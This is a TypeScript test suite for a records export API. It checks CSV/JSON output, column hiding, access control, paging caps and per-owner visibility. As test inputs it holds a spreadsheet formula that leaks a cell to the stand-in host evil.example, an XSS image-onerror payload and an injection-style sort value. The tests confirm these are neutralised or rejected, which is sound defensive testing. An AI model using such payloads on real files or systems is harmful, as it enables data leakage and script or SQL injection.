/**
 * Export (records.export): any list as CSV or JSON with the list's own filters, sort, search
 * and archived mode; the table's output columns in order and never a hidden one; text a
 * spreadsheet would run as a formula neutralised; record visibility and the table's read
 * access applied; every page read, up to a cap.
 */
import { randomBytes } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../src/api/app.ts';
import { LOCAL_OPERATOR } from '../src/core/context.ts';
import { AppError } from '../src/core/errors.ts';
import { collectRows, exportListInput } from '../src/core/platform/export.ts';
import { resource } from '../src/core/resources.ts';
import { FAST_IDENTITY, type SignedIn, signInCast } from './auth.ts';
import { dbSuite } from './db.ts';

type App = ReturnType<typeof createApp>;
type Reply = { status: number; text: string; headers: Headers };

dbSuite('export', ({ database, ctx }) => {
  let app: App;
  let admin: SignedIn;
  let alice: SignedIn;
  let bob: SignedIn;
  let vic: SignedIn;
  // Letters only, so a `like` pattern and a search match these records and nothing else.
  const tag = `exp${randomBytes(4).toString('hex').replace(/\d/g, (d) => 'ghijklmnop'[Number(d)]!)}`;
  const FORMULA = `=HYPERLINK("http://evil.example/?x="&A1,"Click") ${tag}`;
  const XSS = `"><img src=x onerror=alert(1)> ${tag}`;
  const QUOTED = `Smith, "Jones" & Co\r\nsecond line ${tag}`;

  const get = async (who: SignedIn, path: string): Promise<Reply> => {
    const r = await who.request(path);
    return { status: r.status, text: await r.text(), headers: r.headers };
  };
  const post = async (who: SignedIn, method: string, path: string, body: unknown) => {
    const r = await who.request(path, { method, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
    const text = await r.text();
    expect(r.status, `${method} ${path}: ${text}`).toBeLessThan(300);
    return JSON.parse(text) as Record<string, any>;
  };
  const company = (who: SignedIn, data: Record<string, unknown>) => post(who, 'POST', '/api/v1/companies', data);
  const csvRows = (text: string) => parse(text, { bom: true }) as string[][];
  const today = () => new Date().toISOString().slice(0, 10);

  beforeAll(async () => {
    app = createApp({ database: database(), identity: FAST_IDENTITY, webDir: null, timeZone: 'UTC' });
    ({ admin, alice, bob, vic } = await signInCast(app, database()));
    await company(alice, { name: `${tag} Alpha`, country: 'AU', employee_count: 10 });
    await company(alice, { name: `${tag} Bravo`, country: 'AU', employee_count: 50 });
    await company(bob, { name: `${tag} Charlie`, country: 'NZ', employee_count: 20 });
    await company(bob, { name: `${tag} Delta`, country: 'AU', employee_count: 5 });
    const archived = await company(alice, { name: `${tag} Echo`, country: 'AU', employee_count: 30 });
    await post(alice, 'POST', `/api/v1/companies/${archived.id}/archive`, {});
    await company(alice, { name: FORMULA, country: 'TT', employee_count: 1 });
    await company(alice, { name: XSS, country: 'TT', employee_count: 2 });
    await company(alice, { name: QUOTED, country: 'TT', employee_count: 3, annual_revenue: '1250.50' });
  });

  const filtered = `country=AU&name[like]=${encodeURIComponent(`${tag}%`)}&sort=-employee_count`;

  it('answers CSV of exactly the matching rows, in the sort order, with the columns of the table in order', async () => {
    const r = await get(alice, `/api/v1/export/companies?format=csv&${filtered}`);
    expect(r.status, r.text).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [header, ...rows] = csvRows(r.text);
    expect(header).toEqual(resource('companies').output.map((f) => f.name));
    const name = header!.indexOf('name');
    // Echo is archived: left out, as the list leaves it out.
    expect(rows.map((row) => row[name])).toEqual([`${tag} Bravo`, `${tag} Alpha`, `${tag} Delta`]);
    expect(rows.map((row) => row[header!.indexOf('employee_count')])).toEqual(['50', '10', '5']);
    // RFC 4180 line ends.
    expect(r.text).toContain('\r\n');

    const withArchived = csvRows((await get(alice, `/api/v1/export/companies?${filtered}&archived=include`)).text);
    expect(withArchived.slice(1).map((row) => row[name])).toEqual([`${tag} Bravo`, `${tag} Echo`, `${tag} Alpha`, `${tag} Delta`]);
  });

  it('answers JSON of the same rows as an array', async () => {
    const r = await get(alice, `/api/v1/export/companies?format=json&${filtered}`);
    expect(r.status, r.text).toBe(200);
    expect(r.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const rows = JSON.parse(r.text) as Record<string, unknown>[];
    expect(Array.isArray(rows)).toBe(true);
    expect(rows.map((x) => x.name)).toEqual([`${tag} Bravo`, `${tag} Alpha`, `${tag} Delta`]);
    expect(Object.keys(rows[0]!)).toEqual(resource('companies').output.map((f) => f.name));
    // The same search the list offers.
    const searched = JSON.parse((await get(alice, `/api/v1/export/companies?format=json&q=${tag}%20Charlie`)).text) as Record<string, unknown>[];
    expect(searched.map((x) => x.name)).toEqual([`${tag} Charlie`]);
  });

  it('names the file <table>-<date> in content-disposition', async () => {
    const csv = await get(alice, `/api/v1/export/companies?${filtered}`);
    expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="companies-${today()}.csv"`);
    const json = await get(alice, `/api/v1/export/companies?format=json&${filtered}`);
    expect(json.headers.get('content-disposition')).toBe(`attachment; filename="companies-${today()}.json"`);
  });

  it('neutralises a formula in a text cell, and keeps quotes, commas and line breaks as they were', async () => {
    const r = await get(alice, `/api/v1/export/companies?country=TT&name[like]=${encodeURIComponent(`%${tag}%`)}&sort=employee_count`);
    const [header, ...rows] = csvRows(r.text);
    const name = header!.indexOf('name');
    expect(rows.map((row) => row[name])).toEqual([`'${FORMULA}`, XSS, QUOTED]);
    // Figures are values, not text: a plain decimal is left as it is.
    expect(rows[2]![header!.indexOf('annual_revenue')]).toBe('1250.50');
    // Nothing in the file starts a cell with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
    // Taking the apostrophe away gives back exactly the text that was stored.
    expect(rows[0]![name]!.slice(1)).toBe(FORMULA);
  });

  it('answers an XSS payload in JSON as plain text, never as markup', async () => {
    const r = await get(alice, `/api/v1/export/companies?format=json&country=TT&name[like]=${encodeURIComponent(`%${tag}%`)}&sort=employee_count`);
    expect(r.headers.get('content-type')).toMatch(/^application\/json/);
    expect(r.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    const rows = JSON.parse(r.text) as Record<string, unknown>[];
    expect(rows.map((x) => x.name)).toEqual([FORMULA, XSS, QUOTED]);
  });

  it('never includes a hidden column (users.password_hash)', async () => {
    const csv = await get(admin, '/api/v1/export/users?format=csv');
    expect(csv.status, csv.text).toBe(200);
    const [header, ...rows] = csvRows(csv.text);
    expect(header).not.toContain('password_hash');
    expect(header).toEqual(resource('users').output.map((f) => f.name));
    expect(rows.length).toBeGreaterThanOrEqual(4);
    expect(csv.text).not.toContain('$argon2');
    const json = JSON.parse((await get(admin, '/api/v1/export/users?format=json')).text) as Record<string, unknown>[];
    expect(json.length).toBe(rows.length);
    for (const u of json) expect(u).not.toHaveProperty('password_hash');
  });

  it("needs the table's own read access: an admin-only table is refused to an editor, an ordinary one is open to a viewer", async () => {
    expect((await get(alice, '/api/v1/export/audit_log')).status).toBe(403);
    expect((await get(alice, '/api/v1/export/sessions')).status).toBe(403);
    expect((await get(admin, '/api/v1/export/audit_log?format=json&table_name=companies&sort=-at')).status).toBe(200);
    const viewer = await get(vic, `/api/v1/export/companies?format=json&${filtered}`);
    expect(viewer.status, viewer.text).toBe(200);
    expect((JSON.parse(viewer.text) as unknown[]).length).toBe(3);
  });

  it('refuses an unknown filter field, operator, sort or parameter with a field error', async () => {
    const unknownField = await get(alice, '/api/v1/export/companies?no_such_field=1');
    expect(unknownField.status).toBe(400);
    expect(JSON.parse(unknownField.text).errors).toEqual([expect.objectContaining({ field: 'no_such_field' })]);
    const hidden = await get(admin, '/api/v1/export/users?password_hash[like]=%25');
    expect(hidden.status).toBe(400);
    expect(JSON.parse(hidden.text).errors[0].field).toBe('password_hash');
    const op = await get(alice, '/api/v1/export/companies?name[regex]=x');
    expect(op.status).toBe(400);
    expect(JSON.parse(op.text).errors[0].field).toBe('name');
    const sort = await get(alice, `/api/v1/export/companies?sort=${encodeURIComponent('name;drop table companies')}`);
    expect(sort.status).toBe(400);
    expect(JSON.parse(sort.text).errors[0].field).toBe('sort');
    const bad = await get(alice, '/api/v1/export/companies?Name%3B=1');
    expect(bad.status).toBe(400);
    const paging = await get(alice, '/api/v1/export/companies?limit=5');
    expect(paging.status).toBe(400);
    expect(JSON.parse(paging.text).errors[0].field).toBe('limit');
    const format = await get(alice, '/api/v1/export/companies?format=xlsx');
    expect(format.status).toBe(400);
    expect(JSON.parse(format.text).errors[0].field).toBe('format');
  });

  it('answers 404 for a table that does not exist', async () => {
    const r = await get(alice, '/api/v1/export/no_such_table');
    expect(r.status).toBe(404);
    expect(JSON.parse(r.text).code).toBe('NOT_FOUND');
  });

  it('reads every page, and refuses past the cap with a message to narrow the filters', async () => {
    const items = Array.from({ length: 450 }, (_, i) => ({ name: `${tag} industry ${String(i).padStart(3, '0')}` }));
    await post(admin, 'POST', '/api/v1/industries/bulk', { items });
    const r = await get(alice, `/api/v1/export/industries?format=json&name[like]=${encodeURIComponent(`${tag} industry%`)}&sort=-name`);
    const rows = JSON.parse(r.text) as { name: string }[];
    expect(rows.map((x) => x.name)).toEqual(items.map((x) => x.name).reverse());

    const res = resource('industries');
    const input = exportListInput({ 'name[like]': `${tag} industry%`, sort: 'name' });
    await expect(collectRows(ctx({ actor: LOCAL_OPERATOR }), res, input, 450)).resolves.toHaveLength(450);
    const refused = await collectRows(ctx({ actor: LOCAL_OPERATOR }), res, input, 449).catch((e: unknown) => e);
    expect(refused).toBeInstanceOf(AppError);
    expect((refused as AppError).code).toBe('LIMIT_EXCEEDED');
    expect((refused as AppError).message).toMatch(/narrow it with filters/);
  });

  describe('record visibility', () => {
    it("under 'own' visibility an editor exports only their own rows", async () => {
      await post(admin, 'PATCH', '/api/v1/settings', { record_visibility: 'own' });
      try {
        const mine = JSON.parse((await get(alice, `/api/v1/export/companies?format=json&${filtered}`)).text) as Record<string, unknown>[];
        expect(mine.map((x) => x.name)).toEqual([`${tag} Bravo`, `${tag} Alpha`]);
        const csv = csvRows((await get(bob, `/api/v1/export/companies?${filtered}`)).text);
        const name = csv[0]!.indexOf('name');
        expect(csv.slice(1).map((row) => row[name])).toEqual([`${tag} Delta`]);
        // Another owner's record stays out however it is asked for.
        const searched = JSON.parse((await get(alice, `/api/v1/export/companies?format=json&q=${tag}%20Charlie`)).text) as unknown[];
        expect(searched).toEqual([]);
        // Administrators see everything.
        const all = JSON.parse((await get(admin, `/api/v1/export/companies?format=json&${filtered}`)).text) as unknown[];
        expect(all).toHaveLength(3);
      } finally {
        await post(admin, 'PATCH', '/api/v1/settings', { record_visibility: 'all' });
      }
    });
  });
});
